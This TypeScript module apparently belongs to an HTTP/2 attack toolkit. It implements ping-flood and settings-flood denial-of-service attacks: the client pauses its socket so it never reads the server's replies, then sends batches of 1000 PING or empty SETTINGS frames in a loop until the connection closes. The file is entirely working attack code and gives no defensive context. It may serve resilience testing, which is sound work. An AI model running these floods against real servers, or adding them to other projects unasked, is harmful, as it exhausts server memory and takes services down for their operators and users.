import type { Attacker } from '../lib/attacker.ts'
import { encodeFrame, encodeSettings, repeated, Type } from '../lib/frames.ts'

const batch = 1000

/** Frames that the server must answer, from a client that reads no answer. */
async function unreadAnswers(attacker: Attacker, frame: Uint8Array): Promise<void> {
  const frames = repeated(frame, batch)
  await attacker.http2(async (connection) => {
    connection.socket.pause()
    while (connection.isOpen) await connection.send(frames, batch)
  })
}

export function pingFlood(attacker: Attacker): Promise<void> {
  return unreadAnswers(attacker, encodeFrame(Type.PING, 0, 0, Buffer.alloc(8)))
}

export function settingsFlood(attacker: Attacker): Promise<void> {
  return unreadAnswers(attacker, encodeSettings([]))
}
